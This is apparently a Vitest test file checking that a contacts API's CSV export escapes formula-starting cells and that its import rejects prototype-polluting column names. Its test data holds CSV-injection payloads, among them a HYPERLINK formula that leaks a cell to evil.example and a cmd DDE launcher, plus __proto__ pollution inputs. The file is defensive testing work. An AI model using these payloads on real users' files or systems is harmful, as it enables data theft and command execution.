import { parse as parseCsv } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends } from './helpers/test-db.js';
import { startTestApp, type TestApp } from './helpers/test-app.js';

/** Issue 9 items 7 and 9: the CSV export opens safely in a spreadsheet; import headers never reach Object.prototype. */

/** What a spreadsheet would run: these must never start a cell of the export. */
const FORMULA_START = /^[=+\-@\t\r]/;
const E164 = /^\+[1-9]\d{1,14}$/;

describe.each(backends)('CSV safety on %s', (backend) => {
  let app: TestApp;
  let seq = 0;

  beforeAll(async () => {
    app = await startTestApp(backend);
  });
  afterAll(async () => {
    await app?.close();
  });

  const tenant = async () => {
    const res = await app.api('POST', '/api/tenants', { body: { name: 'CSV', slug: `csv-${backend}-${++seq}` } });
    expect(res.status).toBe(201);
    return res.body.data.apiKey as string;
  };
  const exportCsv = async (key: string) => {
    const res = await fetch(`${app.url}/api/contacts/export?format=csv`, { headers: { 'x-api-key': key } });
    expect(res.status).toBe(200);
    return res.text();
  };
  const importCsv = async (key: string, csv: string) => {
    const res = await fetch(`${app.url}/api/contacts/import`, { method: 'POST', headers: { 'x-api-key': key, 'content-type': 'text/csv' }, body: csv });
    return { status: res.status, body: (await res.json()) as any };
  };
  const contactsOf = async (key: string) => {
    const res = await app.api('GET', '/api/contacts?limit=500', { key });
    expect(res.status).toBe(200);
    return res.body.data as Record<string, unknown>[];
  };

  // Values that start a formula in Excel, LibreOffice or Google Sheets, and two that only look like one.
  const dangerous = [
    { firstName: 'Eq', notes: '=HYPERLINK("http://evil.example/?x="&A1,"click")', company: '=1+1' },
    { firstName: 'Plus', notes: '+SUM(1,2)', company: '+cmd|" /C calc"!A0' },
    { firstName: 'Minus', notes: '-2+3', lastName: '-Smith' },
    { firstName: 'At', notes: '@SUM(1)', externalId: '@ext-1' },
    { firstName: 'Tab', notes: '\t=1+1' },
    { firstName: 'Cr', notes: '\r=1+1' },
    { firstName: 'Quoted', notes: "'=already quoted by someone", company: "''+twice" },
    { firstName: 'Plain', notes: 'nothing to see', company: 'O+Brien = fine' },
  ];

  it('quotes every cell that starts like a formula, leaves E.164 phones and other cells as they are, and imports back unchanged', async () => {
    const key = await tenant();
    const rows = dangerous.map((row, i) => ({ ...row, phonePrimary: `+4915112345${String(100 + i)}`, phoneSecondary: i === 0 ? '+14155550123' : undefined }));
    const created = await app.api('POST', '/api/contacts/bulk', { key, body: rows });
    expect(created.status).toBe(200);
    expect(created.body.data.created).toBe(rows.length);

    const csv = await exportCsv(key);
    const records = parseCsv(csv, { columns: true, bom: true, relax_quotes: true }) as Record<string, string>[];
    expect(records).toHaveLength(rows.length);
    for (const record of records) {
      for (const [column, cell] of Object.entries(record)) {
        if (!E164.test(cell)) expect(FORMULA_START.test(cell), `${column}: ${JSON.stringify(cell)}`).toBe(false);
      }
      // E.164 numbers cannot be formulas (a plus and digits): they stay dialable as they are.
      expect(record.phonePrimary).toMatch(/^\+4915112345\d{3}$/);
    }
    const byName = new Map(records.map((r) => [r.firstName, r]));
    expect(byName.get('Eq')).toMatchObject({ notes: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, company: "'=1+1", phoneSecondary: '+14155550123' });
    expect(byName.get('Plus')).toMatchObject({ notes: "'+SUM(1,2)", company: `'+cmd|" /C calc"!A0` });
    expect(byName.get('Minus')).toMatchObject({ notes: "'-2+3", lastName: "'-Smith" });
    expect(byName.get('At')).toMatchObject({ notes: "'@SUM(1)", externalId: "'@ext-1" });
    expect(byName.get('Tab')?.notes).toBe("'\t=1+1");
    expect(byName.get('Cr')?.notes).toBe("'\r=1+1");
    // A cell that already starts with a quote before a formula gets one more, so the import can take one off.
    expect(byName.get('Quoted')).toMatchObject({ notes: "''=already quoted by someone", company: "'''+twice" });
    expect(byName.get('Plain')).toMatchObject({ notes: 'nothing to see', company: 'O+Brien = fine' });

    // The export imports into another tenant as the same contacts.
    const columns = ['firstName', 'lastName', 'phonePrimary', 'phoneSecondary', 'company', 'notes', 'externalId'];
    const other = await tenant();
    const imported = await importCsv(other, stringify(records, { header: true, columns }));
    expect(imported.status).toBe(200);
    expect(imported.body.data).toMatchObject({ created: rows.length, failed: 0 });
    const back = new Map((await contactsOf(other)).map((c) => [c.firstName, c]));
    for (const row of rows) {
      const contact = back.get(row.firstName)!;
      for (const [field, value] of Object.entries(row)) if (value !== undefined) expect(contact[field], `${row.firstName}.${field}`).toBe(value);
    }
  });

  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'])(
    'refuses a %s column as unknown with a 400, writes nothing and touches no prototype',
    async (header) => {
      const key = await tenant();
      const res = await importCsv(key, `firstName,phonePrimary,${header}\nProto,+14155550199,"{""polluted"":true}"\n`);
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ success: false, error: 'VALIDATION_FAILED' });
      expect(res.body.message).toContain(`Unknown CSV column(s): ${header}`);
      expect(await contactsOf(key)).toEqual([]);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
    },
  );

  it('takes a doNotCall cell named like a prototype member as a bad value of that row only', async () => {
    const key = await tenant();
    const res = await importCsv(key, `firstName,phonePrimary,doNotCall\nBad,+14155550188,constructor\nGood,+14155550187,yes\n`);
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ rows: 2, created: 1, failed: 1, errors: [{ row: 2, error: expect.stringContaining('doNotCall') }] });
    expect((await contactsOf(key)).map((c) => [c.firstName, c.doNotCall])).toEqual([['Good', true]]);
  });
});
